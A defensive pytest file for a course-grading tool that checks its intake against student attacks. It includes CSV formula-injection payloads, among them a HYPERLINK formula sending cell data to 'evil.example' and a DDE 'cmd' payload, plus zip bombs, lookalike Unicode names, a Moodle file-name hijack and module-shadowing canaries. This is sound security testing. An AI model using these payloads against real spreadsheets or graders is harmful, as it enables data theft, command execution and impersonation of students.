"""The intake attacked by a student who read the code (issue 34): what the teacher opens cannot act,
and no student's file is taken for another's.

Each attack ends as a refusal with a reason, or as inert text, while honest submissions are read
as before; each protection is also switched off once, to show the attack is real and the test
would catch it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent / "fixtures"))

import moodle

from gamekit.course import grade, intake, lms, spreadsheet
from gamekit.sandbox import archive as archive_rules
from gamekit.sandbox import importpath
from gamekit.sandbox.channel import clean_text

ROOT = Path(__file__).resolve().parent.parent
FORMULAS = [
    '=HYPERLINK(CONCAT("http:",CHAR(47),CHAR(47),"evil.example?",B2),"details")',
    "+cmd|' -c calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def _notebook(text: str = "mine") -> bytes:
    nb = {"cells": [], "metadata": {"otter": {"assignment_name": "99-fixture"}, "x": text}}
    return json.dumps(nb | {"nbformat": 4, "nbformat_minor": 5}).encode()


def _grader() -> grade.Autograder:
    questions = [{"name": "q1", "points": 1.0, "manual": False}, {"name": "q2", "points": 2.0, "manual": False}]
    return grade.Autograder("99-fixture", Path("x.zip"), questions, {"questions": []})


def _graded(subs: list[grade.Submission]) -> list[grade.SubmissionResult]:
    """Results for the submissions as `grade` makes them (a refused one carries its reason as the error)."""
    out = []
    for s in subs:
        r = grade.SubmissionResult(
            s.student, "99-fixture", s.path, error=f"refused: {s.refused}" if s.refused else None
        )
        r.questions["q1"] = {"score": 1.0, "possible": 1.0, "cases": []}
        r.notes.append(FORMULAS[2])  # a note that starts like a formula (a student's printed text, say)
        out.append(r)
    return out


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [c for r in rows for c in r if c.startswith(spreadsheet.FORMULA_STARTS)]


# --- what the teacher opens cannot act ---------------------------------------------------------


def test_a_formula_file_name_is_inert_in_the_grades_csv(tmp_path, monkeypatch):
    subs = tmp_path / "subs"
    subs.mkdir()
    for k, formula in enumerate(FORMULAS):
        (subs / f"{formula}.ipynb").write_bytes(_notebook(str(k)))
    (subs / "ann.ipynb").write_bytes(_notebook("ann"))
    found = grade.find_submissions(subs)
    assert sorted(s.student for s in found) == sorted(["ann", *FORMULAS]) and all(s.data for s in found)
    [path] = grade.write_reports(_graded(found), {"99-fixture": _grader()}, tmp_path / "grades")
    rows = _cells(path)
    assert _formula_cells(rows) == []  # no cell a spreadsheet would evaluate
    by_student = {r[0].removeprefix("'"): r for r in rows[1:]}
    assert set(by_student) == {"ann", *FORMULAS}  # shown as they are, after the quote
    for formula in FORMULAS:
        row = by_student[formula]
        assert row[0] == "'" + formula and row[-3] == f"'{formula}.ipynb" and row[-2] == "'" + FORMULAS[2]
    raw = path.read_bytes().decode()
    assert all(f'"\'{f.replace(chr(34), 2 * chr(34))}"' in raw for f in FORMULAS)  # quoted, as OWASP asks
    assert by_student["ann"][0] == "ann" and by_student["ann"][1:5] == ["1", "0", "1", "3"]  # the rest as before
    # switched off: the same writer without the quote produces the formulas the spreadsheet runs
    monkeypatch.setattr(spreadsheet, "inert_cell", lambda text: text)
    [path] = grade.write_reports(_graded(found), {"99-fixture": _grader()}, tmp_path / "unprotected")
    assert {c for c in _formula_cells(_cells(path)) if c in FORMULAS} == set(FORMULAS)


def test_a_formula_in_a_participants_text_is_inert_in_moodles_worksheet(tmp_path, monkeypatch):
    pids = [100001, 100002, 100003]
    rows = moodle.worksheet_rows(pids, "en")
    sheet = tmp_path / "worksheet.csv"
    sheet.write_bytes(moodle.worksheet_bytes(rows))
    result = grade.SubmissionResult("100001", "99-fixture", Path("100001/x.ipynb"), error=FORMULAS[0])
    result.notes.append(FORMULAS[1])
    done = lms.fill_moodle_worksheet(sheet, [result], _grader())
    assert done.filled == ["100001"]
    after = list(csv.reader(io.StringIO(sheet.read_bytes().decode("utf-8-sig"), newline="")))
    comment = after[1][moodle.FEEDBACK]
    assert "=HYPERLINK(CONCAT(" in comment and not comment.startswith(spreadsheet.FORMULA_STARTS)  # inside <p>, escaped
    assert _formula_cells(after) == ["-"] * 3  # Moodle's own "-" (last graded), byte for byte as Moodle wrote it
    expected = {100001: ("0.00", lms.moodle_feedback(result, _grader()))}
    assert sheet.read_bytes() == moodle.worksheet_bytes(moodle.worksheet_rows(pids, "en", expected))
    # switched off: a feedback comment that began with the student's text would reach the cell as a formula
    monkeypatch.setattr(lms, "moodle_feedback", lambda result, grader: result.error)
    sheet.write_bytes(moodle.worksheet_bytes(rows))
    lms.fill_moodle_worksheet(sheet, [result], _grader())
    assert _cells_of(sheet)[1][moodle.FEEDBACK] == "'" + FORMULAS[0]
    monkeypatch.setattr(lms, "inert_cell", lambda text: text)
    sheet.write_bytes(moodle.worksheet_bytes(rows))
    lms.fill_moodle_worksheet(sheet, [result], _grader())
    assert _cells_of(sheet)[1][moodle.FEEDBACK] == FORMULAS[0]


def _cells_of(sheet: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(sheet.read_bytes().decode("utf-8-sig"), newline="")))


def test_a_formula_file_name_never_reaches_the_canvas_gradebook(tmp_path):
    users = [2001, 2002]
    book = tmp_path / "grades.csv"
    book.write_bytes(moodle.canvas_gradebook_bytes(users))
    results = [grade.SubmissionResult(name, "99-fixture", Path(f"{name}.ipynb")) for name in [*FORMULAS, "2001"]]
    for r in results:
        r.questions["q1"] = {"score": 1.0, "possible": 1.0, "cases": []}
    done = lms.fill_canvas_gradebook(book, results, _grader())
    assert done.filled == ["2001"] and sorted(done.without_row) == sorted(FORMULAS)
    assert book.read_bytes() == moodle.canvas_gradebook_bytes(users, graded={2001: "6.67"})  # only the score
    assert not any(c.startswith(("=", "+", "@")) for r in _cells_of(book) for c in r)


def test_inert_cells_follow_owasps_rule():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet.inert_cell(start + "1") == "'" + start + "1"
        assert spreadsheet.spreadsheet_field(start + '"x"', from_student=True) == f'"\'{start}""x"""'
    assert spreadsheet.inert_cell("ann") == "ann" and spreadsheet.spreadsheet_field("ann", from_student=True) == '"ann"'
    assert (
        spreadsheet.spreadsheet_field("-1") == "-1" and spreadsheet.spreadsheet_field("a,b") == '"a,b"'
    )  # our own numbers as they are


# --- names: one strict rule, a refusal where two clean to one ------------------------------------


LOOKALIKES = {
    "zero-width": ("eve", "eve\u200b"),
    "composed": ("\u00e9va", "e\u0301va"),  # é typed as one character and as e + a combining accent
    "control": ("bob\x01", "bob\x02"),
    "bidi": ("cy\u202e", "cy\u2066"),
}


@pytest.mark.parametrize("kind", sorted(LOOKALIKES))
def test_two_names_that_clean_to_one_are_both_refused_not_merged(tmp_path, monkeypatch, kind):
    subs = tmp_path / "subs"
    subs.mkdir()
    first, second = LOOKALIKES[kind]
    (subs / f"{first}.ipynb").write_bytes(_notebook("first"))
    (subs / f"{second}.ipynb").write_bytes(_notebook("second"))
    (subs / "ann.ipynb").write_bytes(_notebook("ann"))
    found = grade.find_submissions(subs)
    [ann] = [s for s in found if s.student == "ann"]
    assert ann.data == _notebook("ann") and ann.refused is None
    twins = [s for s in found if s.student != "ann"]
    assert len(twins) == 2 and all(s.refused and s.data is None for s in twins)
    for s in twins:  # both raw names, told apart, in each refusal
        assert "refused, not merged" in s.refused
        assert ascii(first)[1:-1] in s.refused and ascii(second)[1:-1] in s.refused
    results = _graded(found)
    grade.write_reports(results, {"99-fixture": _grader()}, tmp_path / "grades")
    pages = sorted((tmp_path / "grades" / "feedback" / "99-fixture").rglob("*.html"))
    assert len(pages) == 3  # a page for every row: none replaces another
    # switched off: without the refusal both notebooks are read and filed under one student
    monkeypatch.setattr(intake, "_refuse_lookalikes", lambda found: [r for *_, r in found])
    merged = [s for s in grade.find_submissions(subs) if s.student != "ann"]
    assert len({s.student for s in merged}) == 1 and all(s.data for s in merged)


def test_two_files_of_one_student_that_clean_to_one_are_refused_and_the_rest_read(tmp_path):
    folder = tmp_path / "subs" / "dan"
    folder.mkdir(parents=True)
    (folder / "a\u200b.ipynb").write_bytes(_notebook("1"))
    (folder / "a.ipynb").write_bytes(_notebook("2"))
    (folder / "b.ipynb").write_bytes(_notebook("3"))
    found = grade.find_submissions(tmp_path / "subs")
    assert [s.data for s in found if s.path.name == "b.ipynb"] == [_notebook("3")]
    refused = [s for s in found if s.path.name != "b.ipynb"]
    assert len(refused) == 2 and all("refused, not merged" in (s.refused or "") for s in refused)
    assert all("'dan/a\\u200b.ipynb' all read as 'dan/a.ipynb'" in (s.refused or "") for s in refused)


def test_format_characters_leave_one_line_names_but_not_text():
    assert clean_text("ann\u202egpj.exe\u2066\u200b\ufeff", 40, one_line=True) == "anngpj.exe"
    assert clean_text("a\u202eb", 40) == "a\u202eb"  # many-line text keeps them (a student's printed output)
    assert intake.clean_name("e\u0301va") == "\u00e9va" == intake.clean_name("\u00e9va")


# --- Moodle's participant from Moodle's part of the name ---------------------------------------


def _flat_archive(path: Path, entries: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)


HIJACK = "Bob Brown_1002_assignsubmission_file_x_1001_assignsubmission_file_lesson.ipynb"


@pytest.mark.parametrize("layout", ["zip", "folder"])
def test_an_upload_named_like_another_participant_is_given_to_neither(tmp_path, layout):
    entries = {
        "Ann Adams_1001_assignsubmission_file_lesson.ipynb": _notebook("ann's own"),
        HIJACK: _notebook("bob's, posing as 1001"),  # Bob (1002) uploaded x_1001_assignsubmission_file_lesson.ipynb
        "Cy Cole_1003_assignsubmission_file_lesson.ipynb": _notebook("cy's own"),
    }
    source = tmp_path / "submissions.zip"
    if layout == "zip":
        _flat_archive(source, entries)
    else:
        source = tmp_path / "unpacked"
        source.mkdir()
        for name, data in entries.items():
            (source / name).write_bytes(data)
    got = lms.moodle_submissions(source, tmp_path / "out")
    placed = {p.parent.name: p.read_bytes() for p in (tmp_path / "out").glob("*/*.ipynb")}
    assert placed == {"1001": _notebook("ann's own"), "1003": _notebook("cy's own")}  # 1001 graded on 1001's work
    for pid, other in (("1001", "1002"), ("1002", "1001")):
        notes = " ".join(got.problems[pid])
        assert "given to neither" in notes and f"yours and {other}" in notes
    assert "no notebook handed in" in " ".join(got.problems["1002"]) and "1003" not in got.problems
    # the pattern this replaces took the last mark in the name: 1001's place, and 1002 vanished
    import re

    greedy = re.match(r"^(?P<name>.*)_(?P<id>\d{1,12})_assignsubmission_(?P<plugin>[a-z]+)_(?P<rest>.*)$", HIJACK)
    assert greedy is not None and greedy.group("id") == "1001"


def test_the_folder_layout_files_an_imitating_upload_under_its_uploader(tmp_path):
    archive = tmp_path / "submissions.zip"
    _flat_archive(
        archive,
        {
            "Ann Adams_1001_assignsubmission_file_/lesson.ipynb": _notebook("ann's own"),
            "Bob Brown_1002_assignsubmission_file_/x_1001_assignsubmission_file_lesson.ipynb": _notebook("bob"),
        },
    )
    lms.moodle_submissions(archive, tmp_path / "out")
    placed = {p.parent.name: p.read_bytes() for p in (tmp_path / "out").glob("*/*.ipynb")}
    assert placed == {"1001": _notebook("ann's own"), "1002": _notebook("bob")}


def test_only_the_worksheets_participants_are_taken(tmp_path):
    sheet = tmp_path / "worksheet.csv"
    sheet.write_bytes(moodle.worksheet_bytes(moodle.worksheet_rows([1001, 1002], "de")))
    assert lms.worksheet_participants(sheet) == {"1001", "1002"}
    archive = tmp_path / "submissions.zip"
    _flat_archive(
        archive,
        {
            moodle.folder_name(0, 1001) + "/lesson.ipynb": _notebook("ann"),
            moodle.folder_name(1, 1002) + "/lesson.ipynb": _notebook("bob"),
            moodle.folder_name(2, 9999) + "/lesson.ipynb": _notebook("someone made up"),
        },
    )
    got = lms.moodle_submissions(archive, tmp_path / "out", participants=lms.worksheet_participants(sheet))
    assert sorted(p.parent.name for p in (tmp_path / "out").glob("*/*.ipynb")) == ["1001", "1002"]
    assert got.participants == {"1001", "1002"} and "9999" not in got.problems
    assert "participant 9999, who is not in the worksheet" in " ".join(got.problems[""])
    unchecked = lms.moodle_submissions(archive, tmp_path / "out2")  # without the worksheet: all three
    assert unchecked.participants == {"1001", "1002", "9999"}


# --- no student file on the teacher's import path ----------------------------------------------


def _imported_by_the_tools() -> list[str]:
    """Every top-level module the two command-line tools import, as Python finds it (not built in)."""
    code = (
        "import sys; before = set(sys.modules); import gamekit.tournament.__main__, gamekit.course.__main__; "
        "print(' '.join(sorted({m.split('.')[0] for m in set(sys.modules) - before})))"
    )
    names = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd="/", check=True)
    return [n for n in names.stdout.split() if n != "gamekit" and n not in sys.builtin_module_names]


@pytest.mark.slow
def test_no_module_in_the_current_folder_runs_when_the_tools_start(tmp_path):
    canaries = tmp_path / "submissions"
    canaries.mkdir()
    names = _imported_by_the_tools()
    assert {"random", "json", "sqlite3", "argparse", "numpy"} <= set(names)  # what the attack needs, and more
    for name in names:  # a canary for each: it leaves a file if it ever runs
        (canaries / f"{name}.py").write_text(f"open({str(tmp_path / 'RAN')!r} + '-{name}', 'w').close()\n")
    for tool in (["gamekit.tournament", "report", "--help"], ["gamekit.course", "--help"]):
        run = subprocess.run([sys.executable, "-m", *tool], capture_output=True, text=True, cwd=canaries)
        assert run.returncode == 0, run.stderr[-2000:]
    run = subprocess.run(
        [sys.executable, "-m", "gamekit.tournament", "validate", ".", "--trusted-code"],
        capture_output=True, text=True, cwd=canaries,
    )  # fmt: skip
    assert run.returncode == 2 and "random.py (Python's standard module 'random')" in run.stderr
    assert "numpy.py (the installed module 'numpy')" in run.stderr
    assert sorted(p.name for p in tmp_path.glob("RAN-*")) == []
    # switched off: the same start without the package's first lines runs the student's random.py
    two = tmp_path / "two"
    two.mkdir()
    for name in ("random", "json"):
        (two / f"{name}.py").write_text((canaries / f"{name}.py").read_text())
    off = "import runpy, sys; sys.path.insert(0, '.'); runpy.run_module('gamekit.tournament', run_name='__main__')"
    subprocess.run([sys.executable, "-c", off, "--help"], capture_output=True, text=True, cwd=two)
    assert (tmp_path / "RAN-random").exists() and (tmp_path / "RAN-json").exists()


def test_a_submissions_folder_on_the_import_path_is_refused(tmp_path, monkeypatch):
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "agent_ann.py").write_text("NAME = 'ann'\ndef agent(game, state):\n    return game.legal_moves(state)[0]\n")
    monkeypatch.setattr(sys, "path", [str(subs), *sys.path])
    with pytest.raises(ValueError, match="is on Python's import path"):
        importpath.refuse_on_import_path([subs / "agent_ann.py"])
    from gamekit.tournament.__main__ import main as tournament

    assert tournament(["validate", str(subs), "--trusted-code"]) == 2
    from gamekit.course.__main__ import main as course

    assert course(["grade", str(subs), "--trusted-code"]) == 2
    monkeypatch.setattr(sys, "path", [p for p in sys.path if p != str(subs)])
    importpath.refuse_on_import_path([subs])  # off the path: taken


def test_a_submission_named_like_a_module_is_refused_with_the_reason(tmp_path, capsys):
    assert importpath.shadowed_module("json") == "Python's standard module 'json'"
    assert importpath.shadowed_module("numpy") == "the installed module 'numpy'"
    assert importpath.shadowed_module("agent_ann") is None and importpath.shadowed_module("my-agent") is None
    assert importpath.shadowed_module("os.path") is None  # not a top-level name: nothing is imported to look
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "sqlite3.py").write_text("raise SystemExit('ran')\n")
    (subs / "agent_ann.py").write_text("NAME = 'ann'\n")
    from gamekit.tournament.__main__ import main as tournament

    assert tournament(["run", str(subs), "--db", str(tmp_path / "t.sqlite"), "--trusted-code"]) == 2
    err = capsys.readouterr().err
    assert "sqlite3.py (Python's standard module 'sqlite3')" in err and "rename it" in err and "agent_ann" not in err
    assert not (tmp_path / "t.sqlite").exists()


# --- archives: a zip bomb refused before it is read --------------------------------------------


def test_a_zip_bomb_by_ratio_is_refused_for_its_student_before_it_is_read(tmp_path, monkeypatch):
    archive = tmp_path / "class.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("ann.ipynb", _notebook("ann"))
        z.writestr("eve.ipynb", b"{" + b" " * 5_000_000 + b"}")  # 5 MB from about 5 kB
    read: list[str] = []
    real_open = zipfile.ZipFile.open
    monkeypatch.setattr(
        zipfile.ZipFile, "open", lambda z, info, *a, **k: read.append(info.filename) or real_open(z, info, *a, **k)
    )
    found = {s.student: s for s in grade.find_submissions(archive)}
    assert found["ann"].data == _notebook("ann") and read == ["ann.ipynb"]  # eve's member was never opened
    assert "eve.ipynb was not unpacked: it would unpack" in found["eve"].refused and "times" in found["eve"].refused
    # switched off: with no ratio bound the 5 MB are unpacked and read
    monkeypatch.setattr(archive_rules, "MAX_RATIO", 10**9)
    assert len(grade.find_submissions(archive)[1].data or b"") == 5_000_002


def test_a_zip_bomb_by_declared_size_is_refused_whole_and_nothing_is_unpacked(tmp_path):
    archive = tmp_path / "class.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        for k in range(3):  # 3 students, 9 MB each (low ratio: random-looking bytes), more than 8 MB a student
            z.writestr(f"s{k}.ipynb", os.urandom(9_000_000))
    with pytest.raises(ValueError, match=r"unpacks to more than 24,000,000 bytes \(its members declare 27,000,000"):
        intake.unpack_zip(archive, tmp_path / "out")
    assert list((tmp_path / "out").iterdir()) == []
    assert intake.class_bytes(30) == 240_000_000 and intake.class_bytes(10**6) == intake.ARCHIVE_BYTES


def test_a_member_that_lies_about_its_size_stops_at_its_bound(tmp_path, monkeypatch):
    monkeypatch.setattr(intake, "NOTEBOOK_BYTES", 100_000)
    archive = tmp_path / "class.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as z:
        z.writestr("ann.ipynb", _notebook("ann"))
        z.writestr("eve.ipynb", os.urandom(300_000))
    data = bytearray(archive.read_bytes())
    # both of eve's headers say 50,000 bytes (the local one and the central directory's)
    for header in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(header, data.find(b"eve.ipynb") - 60 if header == b"PK\x03\x04" else 0)
        while data[at + (30 if header == b"PK\x03\x04" else 46) :].find(b"eve.ipynb") != 0:
            at = data.find(header, at + 4)
        offset = 22 if header == b"PK\x03\x04" else 24
        data[at + offset : at + offset + 4] = (50_000).to_bytes(4, "little")
    archive.write_bytes(bytes(data))
    skipped = intake.unpack_zip(archive, tmp_path / "out")
    assert not (tmp_path / "out" / "eve.ipynb").exists()  # read up to the 50,000 it declared, then refused
    assert skipped == [("eve.ipynb", "it is damaged (Bad CRC-32 for file 'eve.ipynb')")]
    assert (tmp_path / "out" / "ann.ipynb").read_bytes() == _notebook("ann")  # the class is graded as before


def test_submissions_are_read_when_graded_not_all_at_once(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("ann", "bob"):
        (subs / f"{name}.ipynb").write_bytes(_notebook(name))
    found = {s.student: s for s in grade.find_submissions(subs)}
    assert all(s.kept is None for s in found.values())  # nothing held after the scan
    (subs / "bob.ipynb").write_bytes(_notebook("bob, later"))
    assert found["bob"].read() == _notebook("bob, later")  # read again when graded
    (subs / "ann.ipynb").unlink()
    (subs / "ann.ipynb").symlink_to(subs / "bob.ipynb")  # swapped for a link since the scan: refused then
    nb, run = grade.read_submission(found["ann"])
    assert nb is None and "symbolic link" in (run.error or "")
    nb, run = grade.read_submission(found["bob"])
    assert nb is not None and run.error is None


# --- self-study: the teacher is told that its hashes are no secret ------------------------------


@pytest.mark.parametrize("self_study", [True, False])
def test_publishing_self_study_copies_says_their_answers_can_be_recovered(tmp_path, capsys, self_study):
    from gamekit.course import publish
    from gamekit.course.selfstudy import SELF_STUDY_NOTE, answer_digest

    (tmp_path / "edition").mkdir()
    (tmp_path / "edition" / "mine.txt").write_text("not an edition")  # stops publish after the note
    with pytest.raises(ValueError, match="neither empty nor a student edition"):
        publish.publish(tmp_path / "edition", [], tmp_path / "assign", self_study=self_study, run_tests=False)
    err = capsys.readouterr().err
    assert (SELF_STUDY_NOTE in err) == self_study and "not graded" in SELF_STUDY_NOTE
    # what the note says: a count is found back from its hash (and the copy's salt) by trying candidates
    digest = answer_digest("salt-of-the-copy", 4_432)
    assert next(n for n in range(10_000) if answer_digest("salt-of-the-copy", n) == digest) == 4_432


# --- the tournament takes Moodle's archive (issue 37) ------------------------------------------

AGENTS = ROOT / "tests" / "tournament_agents"


def _moodle_agents_archive(path: Path) -> dict[str, bytes]:
    """Moodle's archive of a tournament: every upload named agent.py, and the usual mistakes."""
    first, mover = (AGENTS / "first_free.py").read_bytes(), (AGENTS / "random_mover.py").read_bytes()
    entries = {
        moodle.folder_name(0, 1001) + "/agent.py": first,
        moodle.folder_name(1, 1002) + "/agent.py": mover,
        moodle.folder_name(2, 1003) + "/agent.py": first,
        moodle.folder_name(2, 1003) + "/helper.py": b"X = 1\n",  # a second file: which one plays?
        moodle.folder_name(3, 1004) + "/answers.pdf": b"%PDF-1.4",  # no agent at all
        "Eve Evans_1005_assignsubmission_file_x_1001_assignsubmission_file_agent.py": mover,  # posing as 1001
    }
    _flat_archive(path, entries)
    return {"1001": first, "1002": mover}


@pytest.mark.parametrize("layout", ["zip", "folder"])
def test_the_tournament_takes_moodles_archive_one_agent_per_participant(tmp_path, capsys, layout):
    from gamekit.tournament.__main__ import _from_moodle

    source = tmp_path / "Tournament-All submissions.zip"
    expected = _moodle_agents_archive(source)
    if layout == "folder":
        with zipfile.ZipFile(source) as z:
            z.extractall(tmp_path / "unpacked")
        source = tmp_path / "unpacked"
    (tmp_path / "into").mkdir()
    [folder] = _from_moodle([str(source)], tmp_path / "into")
    assert {p.stem: p.read_bytes() for p in Path(folder).iterdir()} == expected  # named by participant id
    err = capsys.readouterr().err
    assert "participant 1003: 2 .py files handed in (agent.py, helper.py): not entered" in err
    assert "participant 1004: no .py file handed in: not entered" in err and "'answers.pdf' is not a .py file" in err
    assert "participant 1005:" in err and "participant 1001:" in err and "given to neither" in err
    plain = AGENTS / "first_free.py"
    assert _from_moodle([str(plain)], tmp_path / "into") == [str(plain)]  # a plain file or folder as before


@pytest.mark.slow
def test_the_tournament_validates_moodles_archive_from_the_command_line(tmp_path, capsys):
    from gamekit.tournament.__main__ import main as tournament

    archive = tmp_path / "Tournament-All submissions.zip"
    _moodle_agents_archive(archive)
    assert tournament(["validate", str(archive), "--trusted-code"]) == 0
    out = capsys.readouterr().out
    assert [line.split()[:2] for line in out.splitlines()] == [["accepted", "1001"], ["accepted", "1002"]]
